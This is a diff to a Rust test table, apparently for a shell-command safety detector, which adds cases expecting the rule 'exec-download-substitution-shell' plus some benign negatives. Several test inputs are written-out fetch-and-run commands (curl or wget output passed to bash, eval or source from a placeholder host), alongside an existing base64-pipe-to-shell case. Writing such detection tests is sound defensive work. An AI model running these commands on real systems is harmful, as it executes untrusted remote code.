@@ -283,6 +283,30 @@ fn exec_table() -> Vec<Case> {
         ),
         user(vec!["sh", "-c", "curl -fsSL http://x/i.sh -o i.sh"], vec![]),
         user(
+            vec!["sh", "-c", "bash -c \"$(curl -fsSL http://x/i.sh)\""],
+            vec!["exec-download-substitution-shell"],
+        ),
+        user(
+            vec!["bash", "-c", "eval \"$(wget -qO- http://x/i.sh)\""],
+            vec!["exec-download-substitution-shell"],
+        ),
+        user(
+            vec!["bash", "-c", "source <(curl -s http://x/i.sh)"],
+            vec!["exec-download-substitution-shell"],
+        ),
+        user(
+            vec!["bash", "-c", "v=$(curl -s http://x/version); echo $v"],
+            vec![],
+        ),
+        user(
+            vec![
+                "bash",
+                "-c",
+                "eval \"$(ssh-agent -s)\"; source <(kubectl completion bash)",
+            ],
+            vec![],
+        ),
+        user(
             vec!["bash", "-c", "echo aGk= | base64 -d | bash"],
             vec!["exec-base64-pipe-shell"],
         ),
